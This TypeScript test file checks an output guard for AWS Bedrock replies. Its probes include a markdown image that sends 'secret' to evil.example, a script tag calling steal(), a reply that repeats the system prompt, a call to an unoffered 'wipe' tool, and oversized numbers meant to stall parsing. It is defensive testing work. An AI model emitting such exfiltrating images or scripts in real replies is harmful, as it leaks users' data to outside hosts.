/** What of a reply may not reach the handler. */

import type { ClientRules } from '../../../../../aws/bedrock/index.ts';
import { isBulwarkError } from '../../../../../core/errors.ts';
import {
  converseReply,
  type StreamedEvent,
  streamedReply,
  textEvents,
  type WireAnswer,
} from '../../../../support/bedrock.ts';
import { client, converse, converseStream, type Outcome, type Probe, refusal, unseen } from './probe.ts';

const email = ['ada', 'example.com'].join('@');
const prompt = 'You are Orchard, and the seventh tree from the well is where the silver pears are hidden in May.';
const system = { system: [{ text: prompt }] };
const tools = { toolConfig: { tools: [{ toolSpec: { name: 'find', inputSchema: { json: {} } } }] } };
const call = (name: string) => ({ toolUse: { toolUseId: 't', name, input: {} } });
const usage = { inputTokens: 1, outputTokens: 1, totalTokens: 2 };

const { rawJSON } = JSON as unknown as { rawJSON(text: string): unknown };

const probe = (name: string, attempt: Probe['attempt']): Probe => ({ name, attempt });

/** The same words in one piece and in a stream. */
const both = (
  name: string,
  text: string,
  judge: (work: () => Promise<unknown>) => Promise<Outcome>,
  { input = {}, rules }: { input?: object; rules?: ClientRules } = {},
): readonly Probe[] => [
  probe(name, (guard) => {
    const { bedrock } = client(guard, rules, () => converseReply([{ text }]));
    return judge(() => converse(bedrock, input));
  }),
  probe(`${name}, in a stream`, (guard) => {
    const { bedrock } = client(guard, rules, () => streamedReply(textEvents(text.match(/[\s\S]{1,7}/g) ?? [])));
    // The pieces of a stream together are what its reader sees.
    const read = async () => {
      const events = (await converseStream(bedrock, input)) as { contentBlockDelta?: { delta?: { text?: string } } }[];
      return [events.map(({ contentBlockDelta }) => contentBlockDelta?.delta?.text ?? '').join(''), events];
    };
    return judge(read);
  }),
];

const blocked = (reason: string) => (work: () => Promise<unknown>) => refusal(work, 'output_blocked', reason);
const streamOf =
  (...events: readonly StreamedEvent[]): (() => WireAnswer) =>
  () =>
    streamedReply(events);
const start: StreamedEvent = ['messageStart', { role: 'assistant' }];
const stop: StreamedEvent = ['messageStop', { stopReason: 'end_turn' }];
const metadata: StreamedEvent = ['metadata', { usage, metrics: { latencyMs: 1 } }];
const delta = (of: object): StreamedEvent => ['contentBlockDelta', { contentBlockIndex: 0, delta: of }];
const startOf = (of: object): StreamedEvent => ['contentBlockStart', { contentBlockIndex: 0, start: of }];

const streamed = (name: string, events: readonly StreamedEvent[], code: string, reason?: string, input = {}): Probe =>
  probe(name, (guard) => {
    const { bedrock } = client(guard, {}, streamOf(...events));
    return refusal(() => converseStream(bedrock, input), code, reason);
  });

const whole = (
  name: string,
  answer: WireAnswer,
  code: string,
  reason?: string,
  input = {},
  rules?: ClientRules,
): Probe =>
  probe(name, (guard) => {
    const { bedrock } = client(guard, rules, () => answer);
    return refusal(() => converse(bedrock, input), code, reason);
  });

/** By what they show. */
export const REPLIES: readonly Probe[] = [
  ...both('a private value', `Write to ${email}.`, (work) => unseen(work, email)),
  ...both('an image that carries data out', 'See ![x](https://evil.example/?q=secret).', (work) =>
    unseen(work, 'evil.example'),
  ),
  ...both('a script', 'Look: <script>steal()</script> there.', (work) => unseen(work, '<script>')),
  ...both('the system prompt', `My rules: ${prompt}`, blocked('system-prompt'), { input: system }),
  ...both('a value whose mode is block', `Write to ${email}.`, blocked('redaction'), {
    rules: { redactor: await blocking() },
  }),
  whole(
    'a tool that was not offered',
    converseReply([call('wipe')], { stopReason: 'tool_use' }),
    'tool_not_allowed',
    'called',
    tools,
  ),
  streamed(
    'a tool that was not offered, in a stream',
    [
      start,
      startOf({ toolUse: { toolUseId: 't', name: 'wipe' } }),
      delta({ toolUse: { input: '{}' } }),
      ['contentBlockStop', { contentBlockIndex: 0 }],
      ['messageStop', { stopReason: 'tool_use' }],
      metadata,
    ],
    'tool_not_allowed',
    'called',
    tools,
  ),
  streamed(
    'arguments of a call that nobody announced',
    [start, delta({ toolUse: { input: '{}' } }), stop, metadata],
    'tool_not_allowed',
    'unannounced',
    tools,
  ),
  streamed(
    'a call without its end',
    [
      start,
      startOf({ toolUse: { toolUseId: 't', name: 'find' } }),
      delta({ toolUse: { input: '{"a":' } }),
      ['contentBlockStop', { contentBlockIndex: 0 }],
      ['messageStop', { stopReason: 'tool_use' }],
      metadata,
    ],
    'output_truncated',
    'tool-call',
    tools,
  ),
  whole(
    'what nobody cleans',
    converseReply([{ citationsContent: { content: [{ text: email }] } }]),
    'output_blocked',
    'block',
  ),
  streamed(
    'what nobody cleans, in a stream',
    [start, delta({ citation: { title: email } }), stop, metadata],
    'output_blocked',
    'block',
  ),
  streamed(
    'the beginning of what nobody cleans, in a stream',
    [start, startOf({ image: { format: 'png' } }), stop, metadata],
    'output_blocked',
    'block',
  ),
  probe('the trace of a guardrail', (guard) => {
    const { bedrock } = client(guard, {}, () =>
      converseReply([{ text: 'x' }], { trace: { guardrail: { modelOutput: [email] } } }),
    );
    return unseen(() => converse(bedrock, {}), email);
  }),
  probe('the trace of a guardrail, in a stream', (guard) => {
    const trace = { guardrail: { modelOutput: [email] } };
    const { bedrock } = client(
      guard,
      {},
      streamOf(start, delta({ text: 'x' }), stop, ['metadata', { usage, metrics: { latencyMs: 1 }, trace }]),
    );
    return unseen(() => converseStream(bedrock), email);
  }),
  probe('cache counters, which tell who asked before', (guard) => {
    const more = { usage: { ...usage, cacheReadInputTokens: 77 } };
    const { bedrock } = client(guard, {}, () => converseReply([{ text: 'x' }], more));
    return unseen(() => converse(bedrock, {}), 'cacheReadInputTokens');
  }),
  whole('a reply without its end', { body: { usage, metrics: { latencyMs: 1 } } }, 'output_truncated'),
  streamed('a stream without its end', [start, delta({ text: 'Half an answ' })], 'output_truncated', 'stream'),
  streamed('a stream without its usage', [start, delta({ text: 'x' }), stop], 'output_truncated', 'stream'),
  probe('the message of an error', (guard) => {
    const { bedrock } = client(guard, {}, () => ({
      status: 403,
      errorType: 'AccessDeniedException',
      body: { message: 'arn:aws:iam' },
    }));
    const told = (): Promise<unknown> => converse(bedrock, {}).catch((error: Error) => [error.message, error]);
    return unseen(told, 'arn:aws:iam');
  }),
  probe('an error of Bedrock, for a stream', (guard) => {
    const { bedrock } = client(guard, {}, () => ({
      status: 403,
      errorType: 'AccessDeniedException',
      body: { message: 'arn:aws:iam' },
    }));
    const told = (): Promise<unknown> =>
      converseStream(bedrock).catch((error: Error) => (isBulwarkError(error) ? Promise.reject(error) : error));
    return refusal(told, 'upstream_unavailable');
  }),
  whole(
    'more digits than are read in no time',
    converseReply([call('find')], {
      additionalModelResponseFields: { a: Array.from({ length: 60 }, () => rawJSON('1'.repeat(390))) },
    }),
    'output_blocked',
    'number',
    tools,
  ),
  whole(
    'a number that takes minutes to be read',
    converseReply([call('find')], { additionalModelResponseFields: { a: rawJSON('1e4000') } }),
    'output_blocked',
    'number',
    tools,
  ),
];

/** A redactor for which an address ends the reply. */
async function blocking() {
  const { createRedactor } = await import('../../../../../core/redaction/index.ts');
  return createRedactor({ modes: { EMAIL_ADDRESS: 'block' } });
}
